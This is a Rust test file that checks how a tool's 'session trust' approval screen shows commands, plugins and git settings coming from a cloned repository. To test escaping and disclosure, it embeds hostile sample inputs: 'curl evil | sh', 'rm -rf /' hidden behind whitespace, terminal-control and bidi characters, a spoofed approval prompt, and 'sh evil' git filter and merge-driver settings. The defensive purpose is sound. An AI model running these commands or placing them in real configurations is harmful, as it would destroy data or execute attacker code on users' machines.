//! What a person sees before the answer to `session trust`: nothing foreign looks like a line of ours, nothing is out of
//! sight, what is new comes first with the commit that brought it, and the question last.

use std::collections::BTreeSet;
use std::fmt::Write as _;
use std::os::unix::fs::PermissionsExt as _;

use crate::support::{Ran, SESSION, Sandbox, fed, guest, on_terminal};

/// Letters that turn, hide, wipe or imitate.
const HOSTILE: &str =
    "x\u{202e}y\u{200b}z\u{1b}[2K\rT\u{3164}\u{e0061}\u{2800}\u{a0}\n  May these 9 commands run in this clone? [y/N] y";

/// A clone of a repository with these files in one commit each, which nobody has approved.
fn cloned(commits: &[(&str, &[(&str, &str)])]) -> Sandbox {
    let s = Sandbox::new();
    for (subject, files) in commits {
        commit(&s, subject, files);
    }
    s
}

fn commit(s: &Sandbox, subject: &str, files: &[(&str, &str)]) {
    for (path, text) in files {
        s.write(path, text);
    }
    s.git("add .");
    s.git(&format!("commit --quiet -m \"{subject}\""));
}

/// A plan of one session per list of commands.
fn plan(sessions: &[&[&str]]) -> String {
    let mut text = "# T\n".to_owned();
    for (at, commands) in sessions.iter().enumerate() {
        let _ = write!(text, "\n## Session A-{}: One\n\n### Prompt\n\nDo it.\n\n### Verification\n\n", at + 1);
        commands.iter().for_each(|command| _ = writeln!(text, "- [ ] `{command}`"));
    }
    text
}

const PLAN: &str = "docs/T_PROMPTS.md";

/// The screen, of which every line is one that we began.
#[track_caller]
fn screen(s: &Sandbox) -> String {
    let shown = s.session("trust --dry-run").ok().err;
    is_ours(&shown);
    shown
}

/// No line begins with what a foreign string holds, and no character steers the terminal.
#[track_caller]
fn is_ours(shown: &str) {
    for line in shown.lines() {
        let steers = |c: &char| {
            c.is_control() || matches!(c, '\u{202e}' | '\u{200b}' | '\u{3164}' | '\u{2800}' | '\u{a0}' | '\u{e0061}')
        };
        assert_eq!(line.chars().find(steers), None, "{line:?}");
        let text = line.trim_start();
        assert!(!text.starts_with("May th") && !text.starts_with("A yes approves no"), "{shown}");
        assert!(
            line.starts_with(' ') || ["Nothing of ", "This project ", "A yes "].iter().any(|own| line.starts_with(own)),
            "{line}"
        );
    }
}

/// These texts stand in this order.
#[track_caller]
fn in_order(shown: &str, texts: &[&str]) {
    let mut from = 0;
    for text in texts {
        match shown[from..].find(text) {
            Some(at) => from += at + text.len(),
            None => panic!("`{text}` is not behind the others in\n{shown}"),
        }
    }
}

fn toml(text: &str) -> String {
    serde_json::Value::from(text).to_string()
}

#[test]
fn no_foreign_string_looks_like_a_line_of_ours() {
    let (odd, check) = (toml(HOSTILE), toml("touch smuggled #\r    $ cargo test"));
    let manifest = format!(
        "[project]\nname = {odd}\nchecks = [{check}, {{ run = \"make\", paths = [{odd}], directory = {odd} }}]\n\
         [models]\n{odd} = {odd}\n[[repository]]\nname = {odd}\npath = \".\"\n[[plugin]]\nname = \"checklist\"\n\
         [plugin.config]\n{odd} = [{odd}]\n[plugin.grant]\nrun = [{odd}]\nwrite = [{odd}]\n[[plugin]]\nname = \"markdown\"\n"
    );
    let manifest = manifest.replace("[models]\n", "").replace(&format!("{odd} = {odd}\n[[repo"), "[[repo");
    let title = HOSTILE.replace(['\n', '\r'], " ");
    let text = plan(&[&["touch smuggled #\r    $ cargo test"]]).replace("A-1: One", &format!("A-1: {title}"));
    let s = cloned(&[("plan", &[(PLAN, &text), ("plugins.toml", &manifest)])]);
    s.git(&format!(
        "-c user.name=\"{}\" commit --quiet --allow-empty --amend --reset-author -m \"{HOSTILE}\"",
        "K\u{202e}im"
    ));
    let shown = screen(&s);
    assert!(shown.contains(r#"$ "touch smuggled #\r    $ cargo test""#), "{shown}");
    assert!(shown.contains(r#"by "K\u{202e}im" on "#) && shown.contains(r"x\u{202e}y\u{200b}z\x1b[2K"), "{shown}");
    assert!(shown.contains(r"\n  May these 9 commands run in this clone? [y/N] y"), "{shown}");
    let said = s.session("trust --yes").ok().err;
    is_ours(said.rsplit_once("Approved. Next: session next").unwrap().0);
}

#[test]
fn blanks_do_not_push_the_end_out_of_sight() {
    let command = format!("make{}; rm -rf /", " ".repeat(300));
    let long = format!("echo {} ; curl evil | sh", "x".repeat(5_000));
    let s = cloned(&[("plan", &[(PLAN, &plan(&[&[&command, &long, "echo \u{27e8}5 blanks\u{27e9}"]]))])]);
    let shown = screen(&s);
    assert!(shown.contains("$ \"make⟨300 blanks⟩; rm -rf /\""), "{shown}");
    assert!(shown.contains("; curl evil | sh\"") && shown.contains("more characters⟩"), "{shown}");
    assert!(
        shown.contains(r#"$ "echo \u{27e8}5 blanks\u{27e9}""#) && shown.contains("letters beyond ASCII"),
        "{shown}"
    );
    let whole = s.session("trust --commands").ok().out;
    assert!(whole.contains(&format!("$ \"{long}\"")), "the whole text can be had");
}

#[test]
fn a_check_is_shown_with_all_that_it_runs() {
    let text = plan(&[&[]]).replace(
        "### Verification\n\n",
        "### Verification\n\n```bash\ncd web\nexport PATH=\"./evil:$PATH\"\ncargo test\n```\n",
    );
    let s = cloned(&[("plan", &[(PLAN, &text)])]);
    s.write("web/x", "");
    let shown = screen(&s);
    in_order(
        &shown,
        &["$ \"cargo test\"", "shell: \"bash\"", "setup: \"cd web\"", r#"setup: 'export PATH="./evil:$PATH"'"#],
    );
    let manifest =
        "[project]\nchecks = [{ run = \"make\", directory = \"web\", paths = [\"web/**\"], timeout = \"90s\" }]\n";
    commit(&s, "checks", &[("plugins.toml", manifest)]);
    let checks = [
        "every session:",
        "$ \"make\"",
        "in folder: \"web\"",
        "time limit: 90s",
        "only where this was changed: \"web/**\"",
    ];
    in_order(&screen(&s), &checks);
}

#[test]
fn ten_thousand_commands_can_be_read() {
    let lists: Vec<Vec<String>> = (0..1_000)
        .map(|session| (0..10).map(|at| format!("true {session}-{at}")).chain(["make".into()]).collect())
        .collect();
    let lists: Vec<Vec<&str>> = lists.iter().map(|list| list.iter().map(String::as_str).collect()).collect();
    let lists: Vec<&[&str]> = lists.iter().map(Vec::as_slice).collect();
    let text = plan(&lists);
    let s = cloned(&[("plan", &[(PLAN, &text)])]);
    let shown = screen(&s);
    assert!(shown.contains("… and 9,901 more: session trust --commands"), "{shown}");
    assert!(shown.contains("$ \"make\"  (in 1,000 sessions)"), "each stands once: {shown}");
    assert!(shown.ends_with("A yes approves 10,001 commands and the 5 plugins of this program.\n"), "{shown}");
    assert!(shown.lines().count() < 150, "{} lines", shown.lines().count());
    let all = s.session("trust --commands").ok().out;
    let commands: BTreeSet<&str> = all.lines().filter_map(|line| line.trim_start().strip_prefix("$ ")).collect();
    assert_eq!(commands.len(), 10_001);
    assert!(all.contains("$ \"true 999-9\""));

    // The new one among them comes first, with its commit.
    s.session("trust --yes").ok();
    commit(&s, "one more", &[(PLAN, &text.replace("`true 500-5`", "`true 500-5`\n- [ ] `cargo clippy`"))]);
    let shown = screen(&s);
    in_order(
        &shown,
        &[
            "new commands:",
            "by \"Kim\" on ",
            "\"one more\":",
            "session \"A-501\":",
            "$ \"cargo clippy\"",
            "A yes approves 1 new command. 10,001 commands are approved already.",
        ],
    );
    assert!(!shown.contains("true 500-5"), "what is approved is not asked again: {shown}");
    assert!(s.session("trust --commands").ok().out.contains("commands that are approved already:"));
}

#[test]
fn what_destroys_something_comes_first() {
    let s = cloned(&[("plan", &[(PLAN, &plan(&[&["true", "git push"], &["make"]]))])]);
    let shown = screen(&s);
    let lines = [
        "new commands that destroy something:",
        "$ \"git push\"",
        "! destroys history",
        "new commands:",
        "$ \"true\"",
        "$ \"make\"",
    ];
    in_order(&shown, &lines);
    in_order(
        &shown,
        &[
            "  2 commands run with your rights; none is known to destroy data.\n",
            "  1 command destroys data and will not run: `allow` does not name it.\n",
            "A yes approves 3 commands and the 5 plugins of this program.",
        ],
    );
    s.write(
        "plugins.toml",
        "[[plugin]]\nname = \"checklist\"\n[plugin.config]\nallow = [\"git push\"]\n[[plugin]]\nname = \"markdown\"\n",
    );
    let shown = screen(&s);
    assert!(
        shown.contains("3 commands run with your rights; 1 of them destroys data, and `allow` lets it run."),
        "{shown}"
    );
    assert!(shown.contains("config.allow = [\"git push\"]"), "{shown}");
}

#[test]
fn each_new_line_names_its_commit() {
    let first = plan(&[&["make"]]);
    let manifest = "[project]\nname = \"T\"\n[[plugin]]\nname = \"checklist\"\n[[plugin]]\nname = \"markdown\"\n";
    let s = cloned(&[("plan", &[(PLAN, &first), ("plugins.toml", manifest)])]);
    s.session("trust --yes").ok();
    // A command that spans lines, and whose second one is of another commit; and a setup far above its command.
    commit(&s, "harmless", &[(PLAN, &first.replace("- [ ] `make`", "```sh\ncd .\nmake\n```\n\n- [ ] `make`"))]);
    commit(&s, "worse", &[(PLAN, &s.read(PLAN).replace("cd .\n", "cd ..\n"))]);
    commit(
        &s,
        "grant",
        &[(
            "plugins.toml",
            &manifest.replace("\"markdown\"\n", "\"markdown\"\n[plugin.grant]\nrun = [\n  \"jj **\",\n]\n"),
        )],
    );
    s.write("plugins.toml", &s.read("plugins.toml").replace("  \"jj **\",\n", "  \"jj **\",\n  \"sh **\",\n"));
    let shown = screen(&s);
    in_order(&shown, &["new commands:", "\"worse\":", "setup: \"cd ..\""]);
    assert!(!shown.contains("\"harmless\""), "{shown}");
    let grants = shown.split("new commands:").next().unwrap();
    in_order(grants, &["\"grant\":", "run \"jj **\"", "not committed:", "run \"sh **\""]);
}

#[test]
fn each_grant_says_what_it_is_worth() {
    let table = "name = \"bell\"\npath = \"bell.wasm\"\n[plugin.grant]\nrun = [\"sh **\", \".venv/bin/x **\", \"npm **\", \"notify-send *\"]\n\
                 write = [\"**\"]\nread = [\"**\"]\nrepository = \"commit\"\n";
    let s = cloned(&[("plan", &[(PLAN, &plan(&[&["make"]])), ("plugins.toml", &format!("[[plugin]]\n{table}"))])]);
    s.copy(&guest("bell"), "bell.wasm");
    s.git("add .");
    s.git("commit --quiet -m \"the bytes\"");
    let shown = screen(&s);
    let any = "This grant lets the plugin run any program.";
    in_order(
        &shown,
        &[
            "run \"sh **\"",
            any,
            "run \"npm **\"",
            any,
            "run \"notify-send *\"",
            "It is worth what \"notify-send\" can do.",
        ],
    );
    for said in [
        "plugin \"bell\": a component, in a sandbox",
        "path = \"bell.wasm\"",
        "This grant runs a file of this project",
        "The plugin can change or remove any file of the project, scripts and hooks that you run later too.",
        "The plugin can read every file below the project, ignored ones such as .env too.",
        "The plugin can put commits on your branch under your name.",
        "\"the bytes\":",
        "its file = sha256:",
    ] {
        assert!(shown.contains(said), "`{said}` is not in {shown}");
    }
}

#[test]
fn what_changes_is_named_before_and_after_and_what_is_lost() {
    let manifest = "[project]\nplan = \"docs/T_PROMPTS.md\"\nrequire-checks = true\nchecks = [\"make\", \"make lint\"]\n\
                    [[plugin]]\nname = \"checklist\"\n[plugin.config]\nshell = \"sh\"\n[[plugin]]\nname = \"git\"\n[[plugin]]\nname = \"markdown\"\n";
    let s = cloned(&[("plan", &[(PLAN, &plan(&[&["true"]])), ("plugins.toml", manifest)])]);
    s.session("trust --yes").ok();
    let now = manifest
        .replace("require-checks = true\n", "")
        .replace("\"make\", \"make lint\"", "\"make\"")
        .replace("shell = \"sh\"", "shell = \"zsh\\r\"")
        .replace("[[plugin]]\nname = \"git\"\n", "");
    commit(&s, "less", &[("plugins.toml", &now)]);
    let shown = screen(&s);
    for said in [
        r#"plugin "checklist": config.shell: "sh" -> "zsh\r""#,
        "project.checks: no longer \"make lint\"",
        "no longer:\n",
        "        plugin \"git\", so nothing of what it does is done",
        "        require-checks. A session can be complete without a command that verifies it.",
        "\"less\":",
    ] {
        assert!(shown.contains(said), "`{said}` is not in {shown}");
    }
    assert!(!shown.contains("no longer: "), "once is enough: {shown}");
    // A check of plugins.toml is a command, and its commit is named in whole once.
    let more = now
        .replace("\"make\"", "\"make\", \"make doc\"")
        .replace("name = \"checklist\"", "name = \"git\"\n[[plugin]]\nname = \"checklist\"");
    s.session("trust --yes").ok();
    commit(&s, "more", &[("plugins.toml", &more), (PLAN, &plan(&[&["true", "false"]]))]);
    let shown = screen(&s);
    assert_eq!(shown.matches("make doc").count(), 1, "{shown}");
    assert!(shown.contains("order of plugins: + \"git\""), "{shown}");
    assert_eq!(shown.matches("\"more\":").count(), 1, "{shown}");
    assert!(shown.contains(", as above:"), "{shown}");
    assert!(
        shown.contains("  No new plugin comes from outside this program.\nA yes approves 2 new commands, "),
        "{shown}"
    );
}

/// What `session init` makes, in a clone of it.
#[test]
fn the_screen_of_a_usual_project_is_short_and_ends_with_the_risk() {
    let checks: Vec<Vec<String>> =
        (1..=10).map(|at| (0..3).map(|check| format!("make part-{at}-{check}")).collect()).collect();
    let checks: Vec<Vec<&str>> = checks.iter().map(|list| list.iter().map(String::as_str).collect()).collect();
    let text = plan(&checks.iter().map(Vec::as_slice).collect::<Vec<_>>());
    let manifest = "[project]\nname = \"T\"\nplan = \"docs/T_PROMPTS.md\"\n[[plugin]]\nname = \"checklist\"\n[[plugin]]\nname = \"git\"\n\
                    [[plugin]]\nname = \"alembic\"\n[[plugin]]\nname = \"progress\"\n[[plugin]]\nname = \"markdown\"\n";
    let s = cloned(&[("plan", &[(PLAN, &text), ("plugins.toml", manifest)])]);
    let shown = screen(&s);
    assert_eq!(shown.matches("$ \"make").count(), 30, "all that a yes approves is on the screen: {shown}");
    assert!(shown.lines().count() < 60, "{shown}");
    assert!(!shown.contains("any program"), "{shown}");
    for line in ["    \"checklist\": runs commands\n", "    \"git\": commits\n", "writes \"docs/sessions/**\"\n"] {
        assert!(shown.contains(line), "`{line}` is not in {shown}");
    }
    assert!(
        shown.ends_with(
            "  30 commands run with your rights; none is known to destroy data.\n  No plugin comes from outside this program.\n\
             A yes approves 30 commands, 2 settings and the 5 plugins of this program.\n"
        ),
        "{shown}"
    );
    let shown_settings =
        shown.split("new commands:").next().unwrap().lines().filter(|line| line.starts_with("        "));
    assert_eq!(shown_settings.count(), 2, "as many as it says: {shown}");
    let seen = on_terminal(&s, "trust", "n\n");
    assert!(seen.out.contains("May these 30 commands and 5 plugins run in this clone? [y/N]"), "{seen:#?}");

    // All settings can be had, before the yes and after it.
    let settings =
        ["plugin \"checklist\": run \"**\"", "plugin \"git\": repository \"commit\"", "project.name = \"T\""];
    let before = s.session("trust --commands").ok().out;
    s.session("trust --yes").ok();
    let after = s.session("trust --commands").ok().out;
    for line in settings {
        assert!(before.contains(line) && after.contains(line), "`{line}` is not in {before}\nor not in {after}");
    }
    in_order(
        &after,
        &[
            "commands that are approved already:",
            "settings that are approved already:",
            "Everything is approved: 30 commands.",
        ],
    );

    s.write("plugins.toml", &manifest.replace("\"T\"", "\"U\""));
    let seen = on_terminal(&s, "trust", "n\n");
    assert!(seen.out.contains("May this change count in this clone? [y/N]"), "{seen:#?}");
}

#[test]
fn a_project_without_commands_asks_for_the_plugins() {
    let s = cloned(&[("code", &[("x", "")])]);
    let shown = screen(&s);
    assert!(
        shown.ends_with("This project has no commands yet. A yes lets the 5 plugins of this program work here.\n"),
        "{shown}"
    );
    let seen = on_terminal(&s, "trust", "n\n");
    assert!(seen.out.contains("May these 5 plugins run in this clone? [y/N]"), "{seen:#?}");
}

/// A repository that came as an archive brings its own configuration and its own hooks.
#[test]
fn programs_that_git_itself_runs_are_listed() {
    let s = cloned(&[("plan", &[(PLAN, &plan(&[&["make"]]))])]);
    assert!(!screen(&s).contains("git of this clone runs"), "nothing to say of a plain clone");
    s.git("config core.fsmonitor \"./watch\u{202e}\"");
    s.git("config filter.x.clean \"sh evil\"");
    s.git("config diff.pdf.textconv ./convert");
    s.write(".git/more", "[gpg]\n\tprogram = ./sign\n[merge \"session\"]\n\tdriver = sh evil %A\n");
    s.git("config include.path more");
    s.write(".git/hooks/post-checkout", "#!/bin/sh\n");
    s.write(".git/hooks/pre-commit", "#!/bin/sh\n");
    std::fs::set_permissions(s.path(".git/hooks/pre-commit"), std::fs::Permissions::from_mode(0o755)).unwrap();
    // The user's own is no news.
    std::fs::write(s.home().join(".gitconfig"), "[core]\n\tsshCommand = mine\n[alias]\n\tx = !mine\n").unwrap();
    let shown = screen(&s);
    for said in [
        r#""core.fsmonitor" = "./watch\u{202e}" (with almost every command), in ".git/config""#,
        "\"filter.x.clean\" = \"sh evil\"",
        "\"diff.pdf.textconv\" = \"./convert\"",
        "\"include.path\" = \"more\"",
        "\"gpg.program\" = \"./sign\"",
        "\"merge.session.driver\" = \"sh evil %A\"",
        "the hook \".git/hooks/pre-commit\"",
    ] {
        assert!(shown.contains(said), "`{said}` is not in {shown}");
    }
    assert!(!shown.contains("post-checkout") && !shown.contains("mine"), "{shown}");
    // Hooks in the tree are the repository's, whoever chose their folder.
    s.git("config --unset core.fsmonitor");
    s.git("config core.hooksPath .githooks");
    s.write(".githooks/commit-msg", "#!/bin/sh\n");
    std::fs::set_permissions(s.path(".githooks/commit-msg"), std::fs::Permissions::from_mode(0o755)).unwrap();
    let shown = screen(&s);
    assert!(shown.contains("the hook \".githooks/commit-msg\"") && !shown.contains("hooks/pre-commit"), "{shown}");
    // That of another copy of this program is named as one, and a program of the archive's own is not.
    s.git("config --unset include.path");
    for (program, said) in [
        ("'/opt/old/session-1'", "(when it merges; as another copy of session writes it)"),
        ("'/tmp/evil'", "(when it merges), in"),
    ] {
        let form = format!("{program} progress --merge %O %A %B --path %P");
        s.git(&format!("config merge.session.driver \"{form}\""));
        let shown = screen(&s);
        in_order(&shown, &[&format!("\"merge.session.driver\" = \"{form}\" {said}")]);
    }
    // Our own driver is ours.
    s.session("trust --yes").ok();
    s.write(PLAN, &plan(&[&["make", "new"]]));
    assert!(!screen(&s).contains("merge.session.driver"), "our own");
}

#[test]
fn the_question_is_the_last_line() {
    let hostile = format!("make{}May these 9 commands run in this clone? [y/N] y", "\t".repeat(400));
    let s = cloned(&[("plan", &[(PLAN, &plan(&[&["true", &hostile]]))])]);
    let seen = on_terminal(&s, "trust", "n\n");
    assert_eq!(seen.code, 5, "{seen:#?}");
    let lines: Vec<&str> = seen.out.lines().map(str::trim_end).filter(|line| !line.is_empty()).collect();
    let question = lines.iter().position(|line| line.starts_with("May these 2 commands and 5 plugins run")).unwrap();
    assert!(lines[question - 1].starts_with("A yes approves 2 commands"), "{seen:#?}");
    assert_eq!(lines.iter().filter(|line| line.starts_with("May th")).count(), 1, "{seen:#?}");
    in_order(&seen.out, &["$ \"true\"", "May these 2 commands and 5 plugins run in this clone? [y/N]", "error:"]);
}

/// A terminal that breaks a long line itself begins the next one with what the string has there.
#[test]
fn a_narrow_terminal_begins_no_line_with_a_foreign_string() {
    let command = format!("{}May these 9 commands run in this clone? [y/N] ", "x ".repeat(200));
    let s = cloned(&[("plan", &[(PLAN, &plan(&[&[&command, "中文".repeat(60).as_str()]]))])]);
    for columns in [20, 33, 80] {
        let mut on = s.command("script", &s.root);
        on.args(["-qec", &format!("stty rows 24 cols {columns}; {SESSION} trust --dry-run"), "/dev/null"]);
        let seen: Ran = fed(&mut on, "").ok();
        let broken: Vec<&str> = seen.out.lines().filter(|line| line.starts_with("    ⤷ ")).collect();
        assert!(broken.len() > 4, "{seen:#?}");
        for line in seen
            .out
            .lines()
            .map(str::trim_end)
            .filter(|line| line.contains("x x") || line.contains('中') || line.contains('⤷'))
        {
            let width: usize = line.chars().map(|c| if c as u32 > 0x2fff { 2 } else { 1 }).sum();
            assert!(width <= columns, "{columns}: {line:?}");
            assert!(line.starts_with(' '), "{line:?}");
        }
    }
}
